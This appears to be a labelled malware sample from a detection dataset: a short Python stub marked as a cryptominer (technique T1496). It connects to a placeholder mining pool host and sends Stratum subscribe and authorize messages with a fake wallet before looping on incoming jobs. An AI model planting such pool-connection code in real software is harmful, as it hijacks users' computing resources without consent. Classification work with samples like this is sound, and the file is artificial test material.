# label: malicious family=miner techniques=T1496 lines=3-5
import socket, json
s = socket.create_connection(("pool.coinmine.example", 3333))
s.sendall((json.dumps({"id": 1, "method": "mining.subscribe", "params": ["pytriage/1.0"]}) + "\n").encode())
s.sendall((json.dumps({"id": 2, "method": "mining.authorize", "params": ["FAKEWALLET.rig0", "x"]}) + "\n").encode())
while True:
    job = s.recv(4096)
    if not job:
        break
